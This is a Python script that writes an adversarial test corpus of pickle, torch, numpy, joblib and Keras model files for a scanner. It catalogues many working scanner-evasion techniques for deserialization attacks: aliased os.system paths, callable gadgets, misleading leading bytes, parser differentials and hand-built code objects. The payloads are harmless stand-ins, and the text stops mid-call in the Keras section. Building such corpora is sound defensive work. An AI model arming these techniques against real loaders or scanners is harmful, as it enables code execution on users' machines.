#!/usr/bin/env python3
"""Write the adversarial corpus in tests/fixtures/adversarial/: small files a
real loader would turn into code execution, file writes or network access,
each shaped to slip past a scanner in one of six ways (the "classes"):

  names          dangerous callables reached by other spellings or not on
                 anyone's list
  gadgets        a harmless-looking helper that calls what it is given
  sniffing       files whose first bytes do not look like what they are
  differentials  bytes the real loader accepts that a stricter parser may not
  keras-code     Keras layers and trust_remote_code repositories that read or
                 run outside the model
  depth          payloads below nesting limits, unknown protobuf fields

Every file is written by the real library's serializer where one writes that
shape (pickle.Pickler, torch.save, numpy.save, joblib.dump, keras
Model.save, onnx.save); bytes are assembled or edited by hand only where no
library writes the shape, and the manifest says so.

Payloads are harmless if a file is ever loaded by mistake: they run `id`,
write under /tmp/modelvet-adv/, or fetch http://127.0.0.1:9/ (the discard
port). Nothing here loads or unpickles a generated file.

Set up and run from the repository root (versions are pinned and recorded in
MANIFEST.tsv):
    python3.12 -m venv target/advgen-venv
    target/advgen-venv/bin/pip install -r scripts/adversarial-requirements.txt
    KERAS_BACKEND=torch target/advgen-venv/bin/python scripts/gen-adversarial.py
"""

import importlib.metadata as md
import io
import json
import os
import pickle
import platform
import shutil
import struct
import sys
import zipfile

os.environ.setdefault("KERAS_BACKEND", "torch")

OUT = os.path.join("tests", "fixtures", "adversarial")
ROWS = []

CMD = "id"
TMP = "/tmp/modelvet-adv"
URL = "http://127.0.0.1:9/"
PY = "import os; os.system('id')"


# --- a pickler that can spell a global any way the unpickler accepts --------


class Global:
    """Stands for the global `module`.`name`, written exactly so."""

    def __init__(self, module, name):
        self.module = module
        self.name = name

    def __call__(self, *a, **k):  # pickle wants a callable reduce target
        raise RuntimeError("never called")


class Call:
    """Pickles as REDUCE: func(*args), then BUILD with `state` if given."""

    def __init__(self, func, args=(), state=None):
        self.func, self.args, self.state = func, tuple(args), state

    def __call__(self, *a, **k):  # may itself be a reduce target
        raise RuntimeError("never called")

    def __reduce__(self):
        if self.state is None:
            return (self.func, self.args)
        return (self.func, self.args, self.state)


class NewObj:
    """Pickles as NEWOBJ: cls.__new__(cls, *args)."""

    def __init__(self, cls, args=()):
        self.cls, self.args = cls, tuple(args)

    def __call__(self, *a, **k):  # may itself be a reduce target
        raise RuntimeError("never called")


class Raw:
    """Opcode bytes no pickler writes (kept to the few shapes that need it)."""

    def __init__(self, data):
        self.data = data


def _save_special(pickler, obj):
    if isinstance(obj, Global):
        if pickler.proto >= 4:
            pickler.save(obj.module)
            pickler.save(obj.name)
            pickler.write(pickle.STACK_GLOBAL)
        else:
            pickler.write(
                pickle.GLOBAL + obj.module.encode() + b"\n" + obj.name.encode() + b"\n"
            )
        return True
    if isinstance(obj, NewObj):
        pickler.save(obj.cls)
        pickler.save(obj.args)
        pickler.write(pickle.NEWOBJ)
        return True
    if isinstance(obj, Raw):
        pickler.write(obj.data)
        return True
    return False


class AdvPickler(pickle._Pickler):
    """CPython's own pure-Python pickler, taught the markers above."""

    def save(self, obj, save_persistent_id=True):
        if _save_special(self, obj):
            return
        super().save(obj, save_persistent_id)


def dumps(obj, protocol=4):
    buf = io.BytesIO()
    AdvPickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


class AdvPickleModule:
    """A `pickle_module` for torch.save that writes with AdvPickler."""

    Pickler = AdvPickler
    Unpickler = pickle.Unpickler
    dump = staticmethod(lambda obj, f, protocol=4, **k: f.write(dumps(obj, protocol)))
    __name__ = "pickle"


# --- output -------------------------------------------------------------------


def write(rel, data, cls, loader, effect, how, expected="malicious"):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    ROWS.append((rel, cls, loader, effect, how, expected))


def record(rel, cls, loader, effect, how, expected="malicious"):
    ROWS.append((rel, cls, loader, effect, how, expected))


def torch_bytes(obj, **kw):
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def joblib_bytes(obj, **kw):
    import joblib
    import joblib.numpy_pickle as jnp

    orig = jnp.NumpyPickler.save

    def save(self, obj, *a, **k):
        if _save_special(self, obj):
            return
        return orig(self, obj, *a, **k)

    jnp.NumpyPickler.save = save
    try:
        buf = io.BytesIO()
        joblib.dump(obj, buf, **kw)
        return buf.getvalue()
    finally:
        jnp.NumpyPickler.save = orig


def npy_bytes(arr):
    import numpy as np

    try:  # numpy >= 2: the writer lives here, numpy.lib.format re-exports it
        import numpy.lib._format_impl as fmt
    except ImportError:
        import numpy.lib.format as fmt
    orig = fmt.pickle

    class P:
        @staticmethod
        def dump(obj, fp, protocol=3, **kw):
            fp.write(dumps(obj, protocol))

    fmt.pickle = P
    try:
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        return buf.getvalue()
    finally:
        fmt.pickle = orig


def objarray(*items):
    import numpy as np

    a = np.empty(len(items), dtype=object)
    for i, x in enumerate(items):
        a[i] = x
    return a


# --- class 1: names -------------------------------------------------------------

PICKLE = "pickle.load"
TORCH = "torch.load(weights_only=False)"
NUMPY = "numpy.load(allow_pickle=True)"
JOBLIB = "joblib.load"


def module_attr_is(module, attr, target):
    """Check (by import only, no payload) that module.attr is the module target."""
    import importlib

    obj = importlib.import_module(module)
    for part in attr.split("."):
        obj = getattr(obj, part)
    want = importlib.import_module(target)
    assert obj is want or getattr(obj, "__module__", None) == target or obj is getattr(
        want, attr.split(".")[-1], None
    ), (module, attr, target)


def names():
    c = "names"
    how = "pickle._Pickler, global spelled by hand"
    module_attr_is("tempfile", "_os", "os")
    module_attr_is("shutil", "os", "os")
    module_attr_is("posixpath", "os", "os")
    module_attr_is("inspect", "builtins", "builtins")
    module_attr_is("reprlib", "builtins", "builtins")
    sys_ = lambda m, n, p=4: Call(Global(m, n), (CMD,))  # noqa: E731
    write("names/tempfile_os_system.pkl", dumps(sys_("tempfile", "_os.system")), c, PICKLE,
          "os.system('id') via tempfile._os.system (STACK_GLOBAL, dotted name)", how)
    write("names/shutil_os_system.pkl", dumps(sys_("shutil", "os.system")), c, PICKLE,
          "os.system('id') via shutil.os.system", how)
    write("names/posixpath_os_system.pkl", dumps(sys_("posixpath", "os.system")), c, PICKLE,
          "os.system('id') via posixpath.os.system", how)
    write("names/posix_system_p2.pkl", dumps(sys_("posix", "system"), 2), c, PICKLE,
          "posix.system('id') (protocol 2 GLOBAL)", how)
    write("names/nt_system_p0.pkl", dumps(sys_("nt", "system"), 0), c, PICKLE + " on Windows",
          "nt.system('id') (protocol 0)", how)
    write("names/os_path_os_system.pkl", dumps(sys_("os", "path.os.system")), c, PICKLE,
          "os.system('id') via os.path.os.system", how)
    write("names/io_open_truncate.pkl",
          dumps(Call(Global("io", "open"), (TMP + "/io_open", "w"))), c, PICKLE,
          "io.open(path, 'w') truncates/creates a file", how)
    write("names/_io_open_truncate.pkl",
          dumps(Call(Global("_io", "open"), (TMP + "/_io_open", "w")), 2), c, PICKLE,
          "_io.open(path, 'w') truncates/creates a file", how)
    write("names/codecs_open_truncate.pkl",
          dumps(Call(Global("codecs", "open"), (TMP + "/codecs_open", "w"))), c, PICKLE,
          "codecs.open(path, 'w') truncates/creates a file", how)
    write("names/inspect_builtins_eval.pkl",
          dumps(Call(Global("inspect", "builtins.eval"), ("__import__('os').system('id')",))),
          c, PICKLE, "eval of a string via inspect.builtins.eval", how)
    write("names/reprlib_builtins_exec_p4.pkl",
          dumps(Call(Global("reprlib", "builtins.exec"), (PY,))), c, PICKLE,
          "exec of a string via reprlib.builtins.exec", how)
    write("names/numpy_load_nested.pkl",
          dumps(Call(Global("numpy", "load"), (TMP + "/nested.npy", None, True))), c, PICKLE,
          "numpy.load(path, allow_pickle=True): loads a nested pickle", how)
    write("names/pandas_read_pickle.pkl",
          dumps(Call(Global("pandas", "read_pickle"), (TMP + "/nested.pkl",))), c, PICKLE,
          "pandas.read_pickle(path): loads a nested pickle", how)
    write("names/pandas_io_pickle_read_pickle.pkl",
          dumps(Call(Global("pandas.io.pickle", "read_pickle"), (TMP + "/nested.pkl",))), c,
          PICKLE, "pandas.io.pickle.read_pickle(path): loads a nested pickle", how)
    write("names/torch_serialization_load.pkl",
          dumps(Call(Global("torch.serialization", "load"), (TMP + "/nested.pt",))), c, PICKLE,
          "torch.serialization.load(path): loads a nested file", how)
    write("names/joblib_load_nested.pkl",
          dumps(Call(Global("joblib", "load"), (TMP + "/nested.joblib",))), c, PICKLE,
          "joblib.load(path): loads a nested pickle", how)
    interp = NewObj(Global("code", "InteractiveInterpreter"))
    write("names/code_interpreter_runsource.pkl",
          dumps(Call(Global("code", "InteractiveInterpreter.runsource"), (interp, PY))), c,
          PICKLE, "code.InteractiveInterpreter().runsource(source) compiles and runs it", how)
    write("names/timeit_timeit.pkl",
          dumps(Call(Global("timeit", "timeit"),
                     (PY, "pass", Global("time", "perf_counter"), 1))), c, PICKLE,
          "timeit.timeit(stmt) compiles and runs stmt", how)
    write("names/pdb_run.pkl", dumps(Call(Global("pdb", "run"), (PY,)), 2), c, PICKLE,
          "pdb.run(statement) runs it under the debugger", how)
    write("names/profile_run.pkl", dumps(Call(Global("profile", "run"), (PY,))), c, PICKLE,
          "profile.run(statement) execs it", how)
    write("names/cprofile_run.pkl", dumps(Call(Global("cProfile", "run"), (PY,)), 0), c, PICKLE,
          "cProfile.run(statement) execs it (protocol 0)", how)
    tracer = NewObj(Global("trace", "Trace"))
    write("names/trace_runctx.pkl",
          dumps(Call(Global("trace", "Trace.runctx"), (tracer, PY, {}, {}))), c, PICKLE,
          "trace.Trace().runctx(cmd, globals, locals) execs cmd", how)
    write("names/runpy_run_code.pkl",
          dumps(Call(Global("runpy", "_run_code"), (PY, {}))), c, PICKLE,
          "runpy._run_code(code, globals) execs a string", how)
    write("names/runpy_run_path.pkl",
          dumps(Call(Global("runpy", "run_path"), (TMP + "/x.py",))), c, PICKLE,
          "runpy.run_path(path) runs a Python file", how)
    importer = Call(Global("zipimport", "zipimporter"), (TMP + "/x.zip",))
    write("names/zipimport_load_module.pkl",
          dumps(Call(Global("zipimport", "zipimporter.load_module"), (importer, "m"))), c,
          PICKLE, "zipimport.zipimporter(path).load_module(name) imports code", how)
    write("names/shelve_open.pkl", dumps(Call(Global("shelve", "open"), (TMP + "/shelf",))), c,
          PICKLE, "shelve.open(path) creates a db file; reading it unpickles", how)
    write("names/logging_config_listen.pkl",
          dumps(Call(Global("logging.config", "listen"), (9,))), c, PICKLE,
          "logging.config.listen(port): a config server that evals received config", how)
    write("names/logging_config_fileconfig.pkl",
          dumps(Call(Global("logging.config", "fileConfig"), (TMP + "/log.ini",))), c, PICKLE,
          "logging.config.fileConfig(path) evals class names and args from a file", how)
    write("names/ctypes_cdll.pkl", dumps(Call(Global("ctypes", "CDLL"), (TMP + "/x.so",))), c,
          PICKLE, "ctypes.CDLL(path) loads a shared library (runs its constructors)", how)
    write("names/webbrowser_open.pkl", dumps(Call(Global("webbrowser", "open"), (URL,))), c,
          PICKLE, "webbrowser.open(url) starts a browser", how)
    write("names/urllib_urlopen.pkl",
          dumps(Call(Global("urllib.request", "urlopen"), (URL,))), c, PICKLE,
          "urllib.request.urlopen(url) fetches a URL", how)
    write("names/tarfile_open_write.pkl",
          dumps(Call(Global("tarfile", "open"), (TMP + "/x.tar", "w"))), c, PICKLE,
          "tarfile.open(path, 'w') creates/truncates a file", how)
    write("names/shutil_copyfile.pkl",
          dumps(Call(Global("shutil", "copyfile"), ("/etc/hostname", TMP + "/copied"))), c,
          PICKLE, "shutil.copyfile(src, dst) writes a file", how)
    write("names/setuptools_spawn.pkl",
          dumps(Call(Global("setuptools._distutils.spawn", "spawn"), ([CMD],))), c, PICKLE,
          "setuptools._distutils.spawn.spawn(argv) runs a program", how)
    write("names/numpy_testing_runstring.pkl",
          dumps(Call(Global("numpy.testing._private.utils", "runstring"), (PY, {}))), c, PICKLE,
          "numpy.testing's runstring(src, dict) execs a string", how)
    write("names/posixsubprocess_fork_exec.pkl",
          dumps(Call(Global("_posixsubprocess", "fork_exec"),
                     ([b"/usr/bin/id"], [b"/usr/bin/id"], True, (), None, None,
                      -1, -1, -1, -1, -1, -1, -1, -1, False, False, 0, None, None, None, -1,
                      None))), c, PICKLE, "_posixsubprocess.fork_exec(...) spawns a process", how)
    write("names/posix_spawn.pkl",
          dumps(Call(Global("posix", "posix_spawn"), ("/usr/bin/id", ["id"], {}))), c, PICKLE,
          "posix.posix_spawn(path, argv, env) spawns a process", how)
    nested = dumps(Call(Global("os", "system"), (CMD,)), 2)
    write("names/_pickle_loads_nested.pkl",
          dumps(Call(Global("_pickle", "loads"), (nested,))), c, PICKLE,
          "_pickle.loads(bytes) unpickles a nested os.system payload", how)
    module_attr_is("sklearn.datasets._covtype", "joblib", "joblib")
    write("names/sklearn_covtype_joblib_load.pkl",
          dumps(Call(Global("sklearn.datasets._covtype", "joblib.load"),
                     (TMP + "/nested.joblib",))), c, PICKLE,
          "joblib.load(path) reached through sklearn.datasets._covtype.joblib", how)
    write("names/pandas_read_csv_url.pkl",
          dumps(Call(Global("pandas", "read_csv"), (URL + "x.csv",))), c, PICKLE,
          "pandas.read_csv(url) fetches a URL", how)
    write("names/torch_hub_load_url.pkl",
          dumps(Call(Global("torch.hub", "load_state_dict_from_url"), (URL + "w.pt",))), c,
          PICKLE, "torch.hub.load_state_dict_from_url(url) downloads and loads a file", how)
    write("names/torch_cpp_extension_load_inline.pkl",
          dumps(Call(Global("torch.utils.cpp_extension", "load_inline"),
                     ("modelvet_adv", "int modelvet_adv() { return 0; }"))), c, PICKLE,
          "torch.utils.cpp_extension.load_inline compiles and imports C++ source", how)
    write("names/numpy_extbuild.pkl",
          dumps(Call(Global("numpy.testing.extbuild", "build_and_import_extension"),
                     ("modelvet_adv", []))), c, PICKLE,
          "numpy.testing.extbuild.build_and_import_extension compiles and imports C", how)
    # NEWOBJ builds a code object and a function from it; REDUCE calls it.
    fn_code = compile("def f():\n    " + PY + "\n", "<model>", "exec").co_consts[0]
    assert sys.version_info[:2] == (3, 12), "CodeType fields below are CPython 3.12's"
    fields = (fn_code.co_argcount, fn_code.co_posonlyargcount, fn_code.co_kwonlyargcount,
              fn_code.co_nlocals, fn_code.co_stacksize, fn_code.co_flags, fn_code.co_code,
              fn_code.co_consts, fn_code.co_names, fn_code.co_varnames, fn_code.co_filename,
              fn_code.co_name, fn_code.co_qualname, fn_code.co_firstlineno,
              fn_code.co_linetable, fn_code.co_exceptiontable, fn_code.co_freevars,
              fn_code.co_cellvars)
    code = NewObj(Global("types", "CodeType"), fields)
    func = NewObj(Global("types", "FunctionType"), (code, {}))
    write("names/newobj_code_function.pkl", dumps(Call(func, ()), 2), c,
          PICKLE + " under CPython 3.12",
          "NEWOBJ types.CodeType(...) and types.FunctionType(code, {}), then calls it",
          "pickle._Pickler, NEWOBJ written as pickle writes it")
    # BUILD calling __setstate__: the first BUILD stores a callable as the
    # instance's __setstate__, the second calls it with its state.
    state = io.BytesIO()
    p = AdvPickler(state, protocol=4)
    p.save(Global("argparse", "Namespace"))
    p.save(())
    p.write(pickle.REDUCE)
    p.save((None, {"__setstate__": Global("shutil", "os.system")}))
    p.write(pickle.BUILD)
    p.save(CMD)
    p.write(pickle.BUILD + pickle.STOP)
    write("names/build_setstate_shutil_os_system.pkl",
          pickle.PROTO + b"\x04" + state.getvalue(), c, PICKLE,
          "BUILD sets __setstate__ = shutil.os.system, a second BUILD calls it with 'id'",
          "pickle._Pickler.save per value, opcodes BUILD x2 by hand (no pickler writes two)")
    # The same names inside containers written by the real libraries.
    write("names/torch_tempfile_os_system.pt",
          torch_bytes(sys_("tempfile", "_os.system"), pickle_module=AdvPickleModule), c, TORCH,
          "os.system('id') via tempfile._os.system inside a torch zip", "torch.save(pickle_module=)")
    write("names/numpy_codecs_open.npy",
          npy_bytes(objarray(Call(Global("codecs", "open"), (TMP + "/npy_codecs", "w")))), c,
          NUMPY, "codecs.open(path, 'w') inside an object .npy", "numpy.save(allow_pickle=True)")
    write("names/joblib_timeit.joblib",
          joblib_bytes({"m": Call(Global("timeit", "timeit"),
                                  (PY, "pass", Global("time", "perf_counter"), 1))}),
          c, JOBLIB, "timeit.timeit(stmt) inside a joblib file", "joblib.dump")


# --- class 2: gadgets ------------------------------------------------------------


def gadgets():
    import collections
    import copyreg
    import functools
    import itertools
    import operator
    import subprocess

    c = "gadgets"
    how = "pickle.dumps (C pickler) of real objects"
    system = os.system
    write("gadgets/partial_system.pkl", pickle.dumps(Call(functools.partial(system, CMD)), 4), c,
          PICKLE, "functools.partial(os.system, 'id')()", how)
    write("gadgets/map_system.pkl", pickle.dumps(Call(list, (map(system, [CMD]),)), 4), c,
          PICKLE, "list(map(os.system, ['id']))", how)
    write("gadgets/filter_system.pkl", pickle.dumps(Call(list, (filter(system, [CMD]),)), 2), c,
          PICKLE, "list(filter(os.system, ['id']))", how)
    write("gadgets/starmap_system.pkl",
          pickle.dumps(Call(list, (itertools.starmap(system, [(CMD,)]),)), 4), c, PICKLE,
          "list(itertools.starmap(os.system, [('id',)]))", how)
    write("gadgets/methodcaller_tempfile_os.pkl",
          dumps(Call(operator.methodcaller("system", CMD), (Global("tempfile", "_os"),))), c,
          PICKLE, "operator.methodcaller('system', 'id')(tempfile._os)",
          "pickle._Pickler; the module object spelled tempfile._os")
    write("gadgets/attrgetter_shutil_os.pkl",
          dumps(Call(Call(operator.attrgetter("system"), (Global("shutil", "os"),)), (CMD,))), c,
          PICKLE, "operator.attrgetter('system')(shutil.os)('id')",
          "pickle._Pickler; the module object spelled shutil.os")
    write("gadgets/getattr_chain.pkl",
          dumps(Call(Call(Global("builtins", "getattr"), (Global("tempfile", "_os"), "system")),
                     (CMD,))), c, PICKLE, "getattr(tempfile._os, 'system')('id')",
          "pickle._Pickler")
    write("gadgets/copyreg_reconstructor_popen.pkl",
          pickle.dumps(Call(copyreg._reconstructor, (subprocess.Popen, subprocess.Popen, [CMD])),
                       2), c, PICKLE,
          "copyreg._reconstructor(Popen, Popen, ['id']) runs Popen.__init__(['id'])", how)
    dd = collections.defaultdict(functools.partial(system, CMD))
    write("gadgets/defaultdict_factory.pkl",
          pickle.dumps(Call(operator.getitem, (dd, "missing")), 4), c, PICKLE,
          "defaultdict(partial(os.system,'id'))['missing'] calls the factory", how)
    write("gadgets/sorted_key.pkl",
          pickle.dumps(Call(functools.partial(sorted, key=system), ([CMD, CMD],)), 4), c, PICKLE,
          "sorted(['id','id'], key=os.system)", how)
    write("gadgets/max_key.pkl",
          pickle.dumps(Call(functools.partial(max, key=system), ([CMD, CMD],)), 2), c, PICKLE,
          "max(['id','id'], key=os.system)", how)
    write("gadgets/min_key_eval.pkl",
          pickle.dumps(Call(functools.partial(min, key=eval), (["__import__('os').system('id')",
                                                                 "0"],)), 4), c, PICKLE,
          "min([...], key=eval) evals each string", how)
    write("gadgets/numpy_assert_no_warnings.pkl",
          dumps(Call(Global("numpy.testing", "assert_no_warnings"),
                     (Global("shutil", "os.system"), CMD))), c, PICKLE,
          "numpy.testing.assert_no_warnings(shutil.os.system, 'id') calls it",
          "pickle._Pickler")
    write("gadgets/numpy_assert_warns_eval.pkl",
          dumps(Call(Global("numpy.testing", "assert_warns"),
                     (Global("builtins", "Warning"), Global("inspect", "builtins.eval"),
                      "__import__('os').system('id')"))), c, PICKLE,
          "numpy.testing.assert_warns(Warning, eval, src) calls eval(src)", "pickle._Pickler")
    write("gadgets/reduce_operator_call.pkl",
          dumps(Call(Global("_functools", "reduce"),
                     (Global("operator", "call"), [Global("posix", "system"), CMD]))),
          c, PICKLE, "functools.reduce(operator.call, [posix.system, 'id']) calls system('id')",
          "pickle._Pickler")
    write("gadgets/newobj_partial.pkl",
          dumps(Call(NewObj(Global("functools", "partial"), (Global("posix", "system"), CMD)),
                     ())), c, PICKLE,
          "NEWOBJ functools.partial(posix.system, 'id') (partial's __new__ takes the call), "
          "then REDUCE calls it", "pickle._Pickler")
    write("gadgets/partial_in_torch.pt", torch_bytes({"w": Call(functools.partial(system, CMD))}),
          c, TORCH, "functools.partial(os.system,'id')() inside a torch zip", "torch.save")
    write("gadgets/map_in_joblib.joblib",
          joblib_bytes({"est": Call(list, (map(system, [CMD]),))}), c, JOBLIB,
          "list(map(os.system, ['id'])) inside a joblib file", "joblib.dump")


# --- class 3: sniffing ---------------------------------------------------------------


def sniffing():
    import numpy as np  # noqa: F401  (torch needs it imported first on some builds)

    c = "sniffing"
    p0 = dumps(Call(Global("os", "system"), (CMD,)), 0)
    p1 = dumps(Call(Global("os", "system"), (CMD,)), 1)
    assert p0.startswith(b"cos\nsystem\n") and p1.startswith(b"cos\nsystem\n")
    hand = "pickle._Pickler protocol 0/1 body, leading opcodes by hand (valid, no pickler writes them)"
    write("sniffing/p0_none_pop.pkl", b"N0" + p0, c, PICKLE, "os.system('id'); starts NONE POP", hand)
    write("sniffing/p0_int_pop.pkl", b"I0\n0" + p0, c, PICKLE, "os.system('id'); starts INT POP", hand)
    write("sniffing/p0_mark_dict.pkl", b"(d0" + p0, c, PICKLE,
          "os.system('id'); starts MARK DICT POP", hand)
    write("sniffing/p0_float_pop.pkl", b"F1.5\n0" + p0, c, PICKLE,
          "os.system('id'); starts FLOAT POP", hand)
    write("sniffing/p0_unicode_pop.pkl", b"Vhello\n0" + p0, c, PICKLE,
          "os.system('id'); starts UNICODE POP", hand)
    write("sniffing/p1_empty_dict_pop.pkl", b"}0" + p1, c, PICKLE,
          "os.system('id'); protocol 1, starts EMPTY_DICT POP", hand)
    write("sniffing/p1_binint_pop.pkl", b"J\x01\x00\x00\x000" + p1, c, PICKLE,
          "os.system('id'); protocol 1, starts BININT POP", hand)
    big = "A" * (2 * 1024 * 1024)
    write("sniffing/p0_big_first_string.pkl",
          dumps((big, Call(Global("os", "system"), (CMD,))), 0), c, PICKLE,
          "os.system('id') after a 2 MiB string argument (protocol 0, headerless)",
          "pickle._Pickler protocol 0")
    write("sniffing/p2_big_first_string.pkl",
          pickle.dumps((big, Call(os.system, (CMD,))), 2), c, PICKLE,
          "os.system('id') after a 2 MiB string argument (protocol 2)", "pickle.dumps")
    write("sniffing/torch_headerless_p0.pt",
          torch_bytes(Call(os.system, (CMD,)), pickle_protocol=0), c, TORCH,
          "torch zip whose data.pkl is headerless protocol 0", "torch.save(pickle_protocol=0)")
    write("sniffing/torch_headerless_p1.pt",
          torch_bytes(Call(os.system, (CMD,)), pickle_protocol=1), c, TORCH,
          "torch zip whose data.pkl is headerless protocol 1", "torch.save(pickle_protocol=1)")
    eocd = b"PK\x05\x06" + b"\x00" * 16 + b"\x00\x00"
    write("sniffing/eocd_after_stop.pkl", pickle.dumps(Call(os.system, (CMD,)), 4) + eocd, c,
          PICKLE, "os.system('id'); an empty zip end record after STOP",
          "pickle.dumps + 22 bytes appended")
    write("sniffing/eocd_in_bytes.pkl",
          pickle.dumps((Call(os.system, (CMD,)), eocd), 4), c, PICKLE,
          "os.system('id'); the pickle's last value is a zip end record", "pickle.dumps")
    write("sniffing/benign_eocd_after_stop.pkl",
          pickle.dumps({"weights": [1.0, 2.0], "name": "tiny"}, 4) + eocd, c, PICKLE,
          "nothing: a plain dict, an empty zip end record after STOP",
          "pickle.dumps + 22 bytes appended", expected="benign")
    write("sniffing/benign_eocd_in_bytes.pkl",
          pickle.dumps({"weights": [1.0, 2.0], "tail": eocd}, 4), c, PICKLE,
          "nothing: a plain dict holding zip end record bytes", "pickle.dumps", expected="benign")


# --- class 4: differentials -------------------------------------------------------------


def differentials():
    import numpy as np

    c = "differentials"
    hand = "opcodes by hand: text integer forms CPython's C unpickler accepts"
    # GLOBAL, PUT under one spelling of the index, POP, GET under another.
    def memo(put, get):
        return (b"cos\nsystem\np" + put + b"\n0g" + get + b"\n(Vid\ntR.")

    write("differentials/memo_plus_sign.pkl", memo(b"1", b"+1"), c, PICKLE,
          "os.system fetched back from the memo as g+1", hand)
    write("differentials/memo_space.pkl", memo(b"1", b" 1"), c, PICKLE,
          "os.system fetched back from the memo as 'g 1'", hand)
    write("differentials/memo_underscore.pkl", memo(b"1_0", b"10"), c, PICKLE,
          "os.system stored in the memo as p1_0, fetched as g10", hand)
    write("differentials/memo_leading_zero.pkl", memo(b"007", b"7"), c, PICKLE,
          "os.system stored in the memo as p007, fetched as g7", hand)
    write("differentials/int_hex_prefix.pkl",
          b"I0x1F\n0L1_000L\n0I01\n0" + dumps(Call(Global("os", "system"), (CMD,)), 0), c, PICKLE,
          "INT 0x1F, LONG 1_000L and INT 01 (True) popped, then os.system('id')", hand)
    # .npy object arrays under descr spellings numpy accepts but never writes.
    payload = objarray(Call(os.system, (CMD,)))
    base = npy_bytes(payload)

    def respell(data, descr):
        assert np.dtype(eval(descr)) is not None  # the spelling is valid (no payload)
        hlen = struct.unpack("<H", data[8:10])[0]
        header = data[10:10 + hlen].decode("latin1")
        assert "'descr': '|O'" in header, header
        new = header.replace("'descr': '|O'", "'descr': " + descr).rstrip()
        total = 10 + len(new) + 1
        new = new + " " * ((64 - total % 64) % 64) + "\n"
        return data[:8] + struct.pack("<H", len(new)) + new.encode("latin1") + data[10 + hlen:]

    write("differentials/npy_descr_pipe_O.npy", base, c, NUMPY,
          "object .npy, descr '|O' as numpy writes it", "numpy.save(allow_pickle=True)")
    for name, descr in [("O8", "'O8'"), ("object", "'object'"), ("eq_O", "'=O'"),
                        ("lt_O8", "'<O8'"), ("subarray_tuple", "('|O', (1,))"),
                        ("fields_O8", "[('a', 'O8')]")]:
        write(f"differentials/npy_descr_{name}.npy", respell(base, descr), c, NUMPY,
              f"object .npy, descr {descr} (numpy accepts, never writes)",
              "numpy.save then descr spelled by hand, header re-padded")
    st = np.empty(1, dtype=[("a", "O"), ("b", "<f4")])
    st["a"][0] = Call(os.system, (CMD,))
    write("differentials/npy_structured_O.npy", npy_bytes(st), c, NUMPY,
          "structured .npy with an object field", "numpy.save(allow_pickle=True)")
    sub = np.empty(1, dtype=[("a", "O", (2,))])
    sub["a"][0, 0] = Call(os.system, (CMD,))
    sub["a"][0, 1] = 0
    write("differentials/npy_subarray_O.npy", npy_bytes(sub), c, NUMPY,
          "structured .npy whose field is a subarray of objects", "numpy.save(allow_pickle=True)")
    # joblib: NumpyArrayWrapper records whose object dtype is spelled otherwise.
    jb = joblib_bytes({"a": objarray(Call(os.system, (CMD,)), 1)}, protocol=2)
    needle = b"X\x02\x00\x00\x00O8"
    assert jb.count(needle) == 1, jb[:200]
    for spelling in ["object", "|O", "O", "=O8"]:
        assert np.dtype(spelling) == np.dtype(object)
        enc = spelling.encode()
        write(f"differentials/joblib_dtype_{spelling.replace('|', 'pipe_').replace('=', 'eq_')}.joblib",
              jb.replace(needle, b"X" + struct.pack("<I", len(enc)) + enc), c, JOBLIB,
              f"joblib object-array record whose dtype reads numpy.dtype({spelling!r}); "
              "the inline pickle after it runs os.system('id')",
              "joblib.dump(protocol=2) then the dtype string respelled")
    ok = pickle.dumps(Call(os.system, (CMD,)), 4)
    write("differentials/trailing_bad_frame.pkl",
          ok + b"\x80\x05\x95\xff\xff\xff\xff\xff\xff\xff\x7f", c, PICKLE,
          "os.system('id'), then a second stream with an absurd FRAME length",
          "pickle.dumps + malformed tail")
    write("differentials/trailing_truncated_global.pkl", ok + b"\x80\x02cposix\nsys", c, PICKLE,
          "os.system('id'), then a truncated second stream", "pickle.dumps + malformed tail")
    write("differentials/trailing_garbage.pkl", ok + bytes(range(256)) * 4, c, PICKLE,
          "os.system('id'), then 1 KiB of non-pickle bytes", "pickle.dumps + malformed tail")
    write("differentials/joblib_trailing_garbage.joblib",
          joblib_bytes({"a": Call(os.system, (CMD,))}) + b"\xff" * 64, c, JOBLIB,
          "joblib file with os.system('id'), then junk", "joblib.dump + malformed tail")


# --- class 5: Keras and remote code ------------------------------------------------------


def keras_file(edit):
    """A real .keras file from Keras, whose config.json `edit` rewrites."""
    import keras

    keras.utils.set_random_seed(0)
    model = keras.Sequential([keras.Input(shape=(4,)), keras.layers.Dense(2)])
    path = os.path.join("target", "advgen-tmp.keras")
    os.makedirs("target", exist_ok=True)
    model.save(path)
    out = io.BytesIO()
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "config.json":
                cfg = json.loads(data)
                edit(cfg)
                data = stable_ids(json.dumps(cfg)).encode()
            if info.filename == "metadata.json":
                meta = json.loads(data)
                meta["date_saved"] = "2024-01-01@00:00:00"  # stable output
                data = json.dumps(meta).encode()
            zinfo = zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0))
            zinfo.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(zinfo, data)
    os.remove(path)
    return out.getvalue()


def stable_ids(text):
    """Number Keras' `shared_object_id`s (Python id()s) in order of appearance."""
    import re

    ids = {}
    return re.sub(r'"shared_object_id": (\d+)',
                  lambda m: '"shared_object_id": %d' % ids.setdefault(m.group(1), len(ids) + 1),
                  text)


def layer(class_name, config):
    return {"module": "keras.layers", "class_name": class_name, "config": config,
            "registered_name": None}


def keras_code():
    c = "keras-code"
    how = "keras Model.save, then config.json layer added by hand (needs TF or a real path to save)"
    load = "keras.saving.load_model (safe_mode=True)"

    def add(lyr):
        return lambda cfg: cfg["config"]["layers"].insert(1, lyr)

    write("keras-code/tfsmlayer_abs.keras",
          keras_file(add(layer("TFSMLayer", {"name": "ext", "filepath": TMP + "/savedmodel",
                                             "call_endpoint": "serve", "trainable": False}))),
          c, load, "TFSMLayer loads (and runs the graph of) a SavedModel outside the file", how)
    write("keras-code/tfsmlayer_traversal.keras",
          keras_file(add(layer("TFSMLayer", {"name": "ext", "filepath": "../../savedmodel",
                                             "call_endpoint": "serving_default"}))),
